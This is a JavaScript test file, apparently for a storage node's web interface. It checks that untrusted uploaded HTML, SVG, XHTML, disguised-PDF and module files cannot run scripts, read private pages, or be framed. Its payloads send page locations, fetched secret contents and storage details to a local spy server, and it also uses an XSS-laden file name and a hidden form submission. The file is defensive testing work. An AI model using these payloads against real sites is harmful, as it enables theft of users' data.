// A stranger's file must not do anything when it is opened: not run, not read
// another file or page, and not learn where it lies.

import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { after, before, test } from 'node:test';
import { eventually, newDirectory, node, put, rowOf, store, withPage }
  from './support.mjs';

// Who hears of it has lost.
const heard = [];
const spy = createServer((request, reply) => {
  heard.push(request.url);
  reply.setHeader('Access-Control-Allow-Origin', '*');
  reply.setHeader('Content-Type', 'text/html');
  reply.end(request.url === '/attack' ? html(attack()) : '');
});

let address;
let spyAddress;
let secretCap;

before(async () => {
  await new Promise((ready) => spy.listen(0, '127.0.0.1', ready));
  spyAddress = `http://127.0.0.1:${spy.address().port}`;
  address = await newDirectory('strangers');
  secretCap = await store('a secret of somebody who shares this node');
});

after(() => spy.close());

// Tells the spy whether it runs, what it reads and where it is.
const attack = () => `
  const tell = (what) => { new Image().src = '${spyAddress}/' + what; };
  tell('runs');
  tell('at?' + encodeURIComponent(location.href));
  for (const target of ['/vdrive/global/', '/', '/uri/${secretCap}'])
    fetch(target).then((r) => r.text()).then((text) =>
      tell('read?' + encodeURIComponent(text.slice(0, 100))));
  fetch('/vdrive/global/by-a-script?t=mkdir', { method: 'PUT' });
  try { tell('kept?' + localStorage.length); } catch {}
  if (globalThis.opener) tell('opener?' + opener.location.href);
`;

const html = (script, head = '') => `<!DOCTYPE html><html><head>${head}</head>
<body><p>harmless</p><script>${script}</script>
<form id="f" method="post" action="/vdrive/global/?t=mkdir">
<input name="name" value="by-a-form"></form>
<script>document.getElementById('f').submit()</script>
<img src="x" onerror="location='${spyAddress}/onerror'"></body></html>`;

const svg = (script) => `<svg xmlns="http://www.w3.org/2000/svg"
  onload="location='${spyAddress}/onload'"><script>${script}</script>
  <text y="20">harmless</text></svg>`;

const xhtml = (script) => `<?xml version="1.0"?>
<html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title></head>
<body><p>harmless</p><script><![CDATA[${script}]]></script></body></html>`;

// Something that a guess at its type would take for a page.
const disguised = (script) => `%PDF-1.4\n${html(script)}`;

const attacks = {
  'page.html': html,
  'picture.svg': svg,
  'data.xml': xhtml,
  'paper.pdf': disguised,
  // By its name it is none; by its bytes it is.
  'page.html.txt': html,
  '<img src=x onerror=alert(1)>.html': html,
};

async function openFromDirectory(page, name) {
  await page.goto(address);
  await rowOf(page, name).getByRole('link', { name, exact: true }).click();
  await page.waitForURL((url) => !url.href.includes('strangers'));
  await page.waitForTimeout(700);
}

// The console may say that scripts were blocked.
const refusals = { errors: ['Blocked script', 'sandbox', 'Content Security',
  'Failed to load', 'ERR_BLOCKED', 'not allowed', 'Refused', 'error on line',
  'favicon'] };

for (const [name, make] of Object.entries(attacks))
  test(`nothing in ${name} runs or reads`, () => withPage(async (page) => {
    await put(address + encodeURIComponent(name), make(attack()));
    heard.length = 0;
    const dialogs = [];
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      return dialog.dismiss();
    });
    await openFromDirectory(page, name).catch((error) => {
      // A browser may refuse to show a PDF at all.
      if (!name.endsWith('.pdf'))
        throw error;
    });
    assert.deepEqual(heard, []);
    assert.deepEqual(dialogs, []);
    assert.ok(!page.url().includes('strangers'));
    const listing = await (await fetch(`${node}vdrive/global?t=json`)).json();
    const children = Object.keys(listing[1].children);
    assert.ok(!children.some((child) => child.startsWith('by-a-')));
  }, refusals));

test('the same page does harm where nobody stops it', () =>
  withPage(async (page) => {
    heard.length = 0;
    await page.goto(spyAddress + '/attack', { waitUntil: 'commit' });
    await eventually(() => heard.includes('/runs'), 'its script runs');
  }, { errors: ['404', 'Failed to load'] }));

test('no stored module is imported', () => withPage(async (page) => {
  const cap = await store(`${attack()}; export default 1;`);
  const module = `/file/${cap}/@@named=/module.js`;
  await put(address + 'module.html', `<!DOCTYPE html><p>harmless</p>
    <script type="module" src="${module}"></script>
    <script type="module">import '${module}';</script>`);
  heard.length = 0;
  await openFromDirectory(page, 'module.html');
  assert.deepEqual(heard, []);
  // Nor by a page elsewhere that has heard of the cap.
  await page.goto(spyAddress);
  heard.length = 0;
  await page.setContent(`<script type="module"
    src="${node.slice(0, -1)}${module}"></script>`);
  await page.waitForTimeout(500);
  assert.deepEqual(heard.filter((x) => x !== '/favicon.ico'), []);
}, { errors: [...refusals.errors, 'CORS', 'Access to script'] }));

test('a frame elsewhere shows no page of ours', () => withPage(async (page) => {
  await page.goto(spyAddress);
  await page.setContent(`<iframe src="${node}"></iframe>`);
  await page.waitForTimeout(500);
  const frame = page.frames()[1];
  assert.ok(!frame || !frame.url().startsWith(node)
    || !(await frame.content()).includes('tahoe-node'));
}, { errors: ['frame', 'X-Frame-Options', 'Framing', 'favicon'] }));
